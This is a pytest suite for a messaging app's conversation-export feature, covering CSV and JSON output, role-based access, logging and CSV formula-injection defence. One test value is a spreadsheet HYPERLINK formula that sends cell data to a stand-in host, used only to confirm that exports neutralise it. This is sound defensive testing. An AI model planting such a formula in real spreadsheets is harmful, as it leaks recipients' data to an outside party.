"""One conversation as a file: what is in it for whom, and nothing that a spreadsheet would run."""

import csv
import io
import json
from dataclasses import replace
from typing import Any

import pytest
import structlog
from hypothesis import example, given
from hypothesis import strategies as st
from werkzeug.test import TestResponse

from bridge.domain.events import MessageEdited, MessageReceived
from bridge.domain.messaging import Direction, Media, MediaKind
from bridge.domain.names import ConversationId, EmployeeId, EventKey
from bridge.sheets.writing import cell, table
from bridge.store.keys import Scope
from bridge.web import export as exporting
from bridge.web.api import PREFIX
from tests.web.asking import api
from tests.web.world import ANA, BRUNO, LUIS, QA, WA, World

MARTA = "+34600111222"
FORMULA = '=HYPERLINK("https://evil.example?"&A1,"click")'
BEGINNINGS = tuple("=+-@\t\r＝＋－＠")


@pytest.fixture
def chat(any_world: World) -> ConversationId:
    """Marta writes, sends a file, corrects herself; Ana answers."""
    any_world.client("Marta", MARTA, ANA)
    where = any_world.writes(MARTA, "hello")
    file = MessageReceived(
        event_key=EventKey("file"),
        occurred_at=any_world.now,
        account=WA,
        chat=any_world.chat(MARTA),
        message_id="m-file",
        text=FORMULA,
        media=(Media(kind=MediaKind.IMAGE, url="https://files.example/1", name="-2+3.jpg"),),
    )
    any_world.happens(file)
    any_world.happens(
        MessageEdited(
            event_key=EventKey("edit"),
            occurred_at=any_world.now,
            account=WA,
            message_id="m-1",
            direction=Direction.IN,
            text="hello there",
        )
    )
    assert api(any_world, ANA).post(f"/conversations/{where}/messages", {"text": "hi"}).status < 300
    return where


def fetched(world: World, who: EmployeeId, chat: str, **query: Any) -> TestResponse:
    headers = {"Authorization": f"Bearer {world.key(f'employee:{who}')}"}
    browser = world.app.test_client()
    return browser.get(f"{PREFIX}/conversations/{chat}/export", query_string=query, headers=headers)


def rows(answer: TestResponse) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(answer.data.decode("utf-8-sig"), newline="")))


def test_it_holds_the_whole_conversation_the_oldest_first(
    any_world: World, chat: ConversationId
) -> None:
    whole = api(any_world, LUIS).get(f"/conversations/{chat}/export").json
    said = [one["message"] for one in whole["messages"]]
    assert [m["text"] for m in said] == ["hello there", FORMULA, "hi"]
    assert [m["direction"] for m in said] == ["in", "in", "out"]
    assert [m["author"] for m in said] == [None, None, ANA]
    assert [f["name"] for f in said[1]["media"]] == ["-2+3.jpg"]
    assert (whole["title"], whole["contact"]["name"]) == ("Marta", "Marta")
    assert [owner["employee"] for owner in whole["owners"]] == [ANA]
    assert said == list(reversed(api(any_world, LUIS).all(f"/conversations/{chat}/messages")))


@pytest.mark.parametrize("who", [LUIS, QA])
def test_managers_and_quality_control_get_decisions_and_earlier_texts(
    any_world: World, chat: ConversationId, who: EmployeeId
) -> None:
    first, _, answer = api(any_world, who).get(f"/conversations/{chat}/export").json["messages"]
    assert first["message"]["edits"] == ["hello"]
    kinds = [decision["kind"] for decision in first["decisions"]]
    assert kinds == ["MessageReceived", "MessageEdited"]
    assert [decision["kind"] for decision in answer["decisions"]] == ["MessageWritten"]
    for decision in first["decisions"]:
        assert api(any_world, who).get(f"/events/{decision['event']}/explain").status == 200


def test_salespeople_get_the_messages_alone(any_world: World, chat: ConversationId) -> None:
    messages = api(any_world, ANA).get(f"/conversations/{chat}/export").json["messages"]
    assert [one["decisions"] for one in messages] == [None] * 3
    assert [one["message"]["edits"] for one in messages] == [[]] * 3
    assert {row["decisions"] for row in rows(fetched(any_world, ANA, chat, format="csv"))} == {""}


def test_csv_is_one_row_per_message(any_world: World, chat: ConversationId) -> None:
    answer = fetched(any_world, LUIS, chat, format="csv")
    assert answer.content_type == "text/csv; charset=utf-8"
    name = f"conversation-{chat}.csv"
    assert answer.headers["Content-Disposition"] == f'attachment; filename="{name}"'
    assert answer.headers["Cache-Control"] == "no-store"
    first, second, third = rows(answer)
    assert (first["text"], first["earlier_texts"]) == ("hello there", "hello")
    assert "MessageEdited" in first["decisions"].splitlines()[1]
    assert second["files"] == "'-2+3.jpg"
    assert second["links"].startswith("/media/of/ms_"), "no vendor's link, which would expire"
    assert (third["author"], third["direction"], third["sent_from"]) == (ANA, "out", "bridge")


def test_s21_a_formula_of_a_client_is_text(any_world: World, chat: ConversationId) -> None:
    second = rows(fetched(any_world, LUIS, chat, format="csv"))[1]
    assert second["text"] == f"'{FORMULA}"


@given(text=st.text(alphabet="=+-@ '\";,\t\r\n＝aé1\x00", max_size=12))
@example(text=FORMULA)
@example(text='ok;"=1+1"')
@example(text="two lines\n@SUM(A1)")
@example(text=' \t "=1')
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_s21_no_cell_begins_a_formula_whatever_separates_cells(separator: str, text: str) -> None:
    """A spreadsheet of another country takes the semicolon, and pasting the tab, for the border."""
    body = table(("a", "b"), [("x", text)]).decode("utf-8-sig")
    read = csv.reader(io.StringIO(body, newline=""), delimiter=separator)
    assert [c for row in read for c in row if c.strip(' \t\r\n"').startswith(BEGINNINGS)] == []


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("", ""),
        ("plain, with a comma", "plain, with a comma"),
        ("5 - 3 = 2", "5 - 3 = 2"),
        ("-5", "'-5"),
        ("+34600111222", "'+34600111222"),
        ("a;b\n-c", "a;b\n'-c"),
        ("nul\x00=", "nul="),
        ("\n" * 50_000 + "=", "\n" * 50_000 + "'="),
    ],
)
def test_s21_what_is_no_formula_stays_as_it_is(text: str, shown: str) -> None:
    assert cell(text) == shown


def test_a_span_narrows_it(any_world: World, chat: ConversationId) -> None:
    noon = any_world.now
    any_world.later(hours=1)
    any_world.writes(MARTA, "later")
    later = any_world.now.isoformat()
    texts = {
        name: [m["message"]["text"] for m in asked.json["messages"]]
        for name, asked in (
            ("since", api(any_world, ANA).get(f"/conversations/{chat}/export", from_=later)),
            ("until", api(any_world, ANA).get(f"/conversations/{chat}/export", to=later)),
        )
    }
    assert texts == {"since": ["later"], "until": ["hello there", FORMULA, "hi"]}
    assert noon < any_world.now


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ({"format": "xlsx"}, "format"),
        ({"from": "yesterday"}, "from"),
        ({"to": "2026-03-01T09:00:00"}, "to"),
        ({"secret": "1"}, "secret"),
    ],
)
def test_a_wrong_parameter_is_named(world: World, query: dict[str, str], field: str) -> None:
    world.client("Marta", MARTA, ANA)
    refused = fetched(world, ANA, world.writes(MARTA, "hello"), **query)
    assert (refused.status_code, refused.get_json()["field"]) == (422, field)


def test_more_than_fits_into_a_file_is_not_cut_but_refused(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    world.client("Marta", MARTA, ANA)
    for text in ("one", "two", "three"):
        where = world.writes(MARTA, text)
    monkeypatch.setattr(exporting, "MOST_MESSAGES", 2)
    refused = api(world, ANA).get(f"/conversations/{where}/export")
    assert (refused.status, refused.json["field"]) == (422, "from")
    assert "`from` and `to`" in refused.json["detail"]


def test_rol_06_whose_chat_it_is_not_is_told_nothing(world: World) -> None:
    world.client("Marta", MARTA, ANA)
    where = world.writes(MARTA, "hello")
    refused, unknown = (fetched(world, BRUNO, chat, format="csv") for chat in (where, "cv_no"))
    assert (refused.status_code, refused.data) == (404, unknown.data)
    sender = api(world, ANA, Scope.SEND)
    assert sender.get(f"/conversations/{where}/export").reason == "principal.scope_missing"


def test_who_took_it_is_logged_without_a_word_of_the_clients(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    world.client("Marta", MARTA, ANA)
    where = world.writes(MARTA, "a private text")
    with structlog.testing.capture_logs() as lines:
        fetched(world, ANA, where)
        fetched(world, BRUNO, where)
    exported = [line for line in lines if line["event"] == "conversation exported"]
    assert [(line["principal"], line["conversation"], line["messages"]) for line in exported] == [
        (f"employee:{ANA}", where, 1)
    ]
    told = json.dumps(lines)
    assert not [word for word in (MARTA, MARTA[1:], "private", "Marta") if word in told]


def test_the_page_links_to_both_files(world: World) -> None:
    world.client("Marta", MARTA, ANA)
    where = world.writes(MARTA, "hello")
    browser = world.signed_in(ANA)
    page = browser.get(f"/conversations/{where}").text
    for wanted, kind in (("csv", "text/csv"), ("json", "application/json")):
        link = f"/conversations/{where}/export?format={wanted}"
        assert f'href="{link}"' in page
        assert browser.get(link).mimetype == kind
    assert world.signed_in(BRUNO).get(link).status_code == 404
    assert browser.get(f"/conversations/{where}/export?from=never").status_code == 400


def test_rol_13_a_role_taken_away_takes_the_file_away(world: World) -> None:
    world.client("Marta", MARTA, ANA)
    where = world.writes(MARTA, "hello")
    without = {name: one for name, one in world.policy.employees.items() if name != ANA}
    world.policy = replace(world.policy, employees=without)
    assert fetched(world, ANA, where).status_code == 404
